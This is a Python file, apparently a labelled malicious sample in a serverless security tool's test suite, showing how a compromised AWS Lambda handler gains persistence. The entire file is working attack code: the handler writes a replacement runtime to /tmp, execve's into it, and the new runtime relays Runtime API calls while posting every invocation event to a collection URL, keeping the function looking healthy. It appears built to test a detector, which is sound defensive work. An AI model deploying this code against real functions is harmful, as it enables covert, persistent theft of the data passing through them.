"""MALICIOUS example (threat catalogue §1b technique 6, "Gaining Persistency on Vulnerable
Lambdas", with the Runtime-API interception of technique 8): runtime bootstrap replacement.

On its first invocation the handler writes a new runtime to /tmp/new_runtime.py (chmod 0777)
and os.execve()s the interpreter on it IN THE RUNTIME'S OWN PID, passing the current request id
and event, with AWS_LAMBDA_RUNTIME_API changed to 127.0.0.1:9009. The new runtime:
  - listens on 127.0.0.1:9009 and relays every Runtime API call to the real API
    (127.0.0.1:9001), leaking each event it relays to http://198.18.0.30/events (a test address
    that fnwarden's sandbox makes local to its own network namespace);
  - answers the interrupted request, then keeps serving invocations with the function's own
    business logic, so the function looks healthy while every later event leaks.
Run with 2 invocations: the second one is served by the replaced runtime.
"""
import json
import os
import sys

NEW_RUNTIME = "/tmp/new_runtime.py"
PROXY_API = "127.0.0.1:9009"
LEAK_URL = "http://198.18.0.30/events"

RUNTIME_SOURCE = r'''
import http.client, http.server, json, os, socketserver, sys, threading, time, urllib.request

REAL = os.environ.get("FNW_EXAMPLE_REAL_API", "127.0.0.1:9001")
API = os.environ["AWS_LAMBDA_RUNTIME_API"]
LEAK_URL = os.environ.get("FNW_EXAMPLE_LEAK_URL", "")
PREFIX = "/2018-06-01/runtime/"


def leak(kind, data):
    if not LEAK_URL:
        return
    try:
        req = urllib.request.Request(LEAK_URL + "?kind=" + kind, data=data, method="POST")
        urllib.request.urlopen(req, timeout=2).read()
    except Exception:
        pass


class Relay(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def relay(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else None
        conn = http.client.HTTPConnection(REAL)  # no timeout: /next blocks until an event
        headers = {k: v for k, v in self.headers.items() if k.lower().startswith("lambda-runtime") or k.lower() == "content-type"}
        conn.request(self.command, self.path, body=body, headers=headers)
        resp = conn.getresponse()
        data = resp.read()
        if self.path.endswith("/invocation/next"):
            leak("event", data)
        self.send_response(resp.status)
        for k, v in resp.getheaders():
            if k.lower() not in ("content-length", "connection", "transfer-encoding", "date", "server"):
                self.send_header(k, v)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
        conn.close()

    do_GET = do_POST = relay

    def log_message(self, *args):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


def start_relay():
    global API
    host, port = API.rsplit(":", 1)
    try:
        server = Server((host, int(port)), Relay)
    except OSError:
        API = REAL  # cannot listen: talk to the real API directly
        return
    threading.Thread(target=server.serve_forever, daemon=True).start()


def call(method, path, body=None):
    conn = http.client.HTTPConnection(API)
    conn.request(method, PREFIX + path, body=json.dumps(body).encode() if body is not None else None,
                 headers={"Content-Type": "application/json"})
    resp = conn.getresponse()
    return resp.getheader("Lambda-Runtime-Aws-Request-Id"), resp.read()


def main():
    start_relay()
    sys.path.insert(0, os.environ.get("LAMBDA_TASK_ROOT", "/var/task"))
    import app
    request_id, event = sys.argv[1], json.loads(sys.argv[2])
    leak("current", sys.argv[2].encode())
    call("POST", "invocation/%s/response" % request_id, app.business(event, "new_runtime"))
    failures = 0
    while failures < 20:
        try:
            request_id, raw = call("GET", "invocation/next")
            result = app.business(json.loads(raw or b"null"), "new_runtime")
            call("POST", "invocation/%s/response" % request_id, result)
            failures = 0
        except Exception:
            failures += 1
            time.sleep(0.5)


main()
'''


def business(event, served_by="original runtime"):
    """What the function is for: greet the caller."""
    name = event.get("name", "world") if isinstance(event, dict) else "world"
    return {"greeting": "Hello, %s!" % name, "served_by": served_by}


def handler(event, context):
    if os.environ.get("FNW_EXAMPLE_REPLACED") == "1":  # already running inside new_runtime.py
        return business(event, "new_runtime")
    try:
        with open(NEW_RUNTIME, "w") as f:
            f.write(RUNTIME_SOURCE)
        os.chmod(NEW_RUNTIME, 0o777)
        env = dict(os.environ)
        env.update(AWS_LAMBDA_RUNTIME_API=PROXY_API, FNW_EXAMPLE_REAL_API=os.environ.get("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001"),
                   FNW_EXAMPLE_LEAK_URL=LEAK_URL, FNW_EXAMPLE_REPLACED="1")
        print("replacing the runtime with %s (pid %d)" % (NEW_RUNTIME, os.getpid()), flush=True)
        sys.stderr.flush()
        os.execve(sys.executable, [sys.executable, NEW_RUNTIME, context.aws_request_id, json.dumps(event)], env)
    except Exception as exc:
        result = business(event)
        result["takeover_failed"] = repr(exc)
        return result
